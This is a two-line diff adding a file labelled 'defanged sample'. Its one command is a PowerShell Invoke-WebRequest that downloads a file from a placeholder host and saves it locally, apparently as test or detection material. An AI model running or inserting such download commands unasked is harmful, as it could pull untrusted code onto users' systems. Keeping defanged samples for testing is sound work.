@@ -1,0 +1,2 @@
+# defanged sample
+Invoke-WebRequest https://a.example.invalid/x -OutFile x
